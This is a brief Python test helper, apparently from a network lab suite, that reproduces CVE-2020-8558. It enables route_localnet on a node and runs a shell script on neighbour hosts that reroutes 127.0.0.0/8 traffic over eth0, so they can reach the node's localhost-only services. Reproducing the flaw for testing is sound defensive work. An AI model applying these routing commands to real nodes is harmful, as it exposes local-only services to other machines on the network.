"""A neighbour on the link that sends packets to 127.0.0.0/8 of the node (CVE-2020-8558)."""

from __future__ import annotations

import json

from tests.support.lab import Host, Lab

_WAY = """
sysctl -qw net.ipv4.conf.all.route_localnet=1 net.ipv4.conf.eth0.route_localnet=1
ip rule add pref 0 to 127.0.0.0/8 lookup 77
ip rule del pref 0 lookup local
ip rule add pref 10 lookup local
ip route add 127.0.0.0/8 dev eth0 src {source} table 77
ip neigh replace 127.0.0.1 lladdr {hardware} dev eth0
"""


def route_loopback(lab: Lab, *hosts: Host) -> None:
    """Let the node take such packets, as kube-proxy does, and these hosts send them."""
    lab.node.run(["sysctl", "-qw", "net.ipv4.conf.eth0.route_localnet=1"])
    shown = json.loads(lab.node.run(["ip", "-j", "link", "show", "eth0"]).stdout)
    for host in hosts:
        script = _WAY.format(source=host.ipv4, hardware=shown[0]["address"])
        host.run(["sh", "-ec", script])
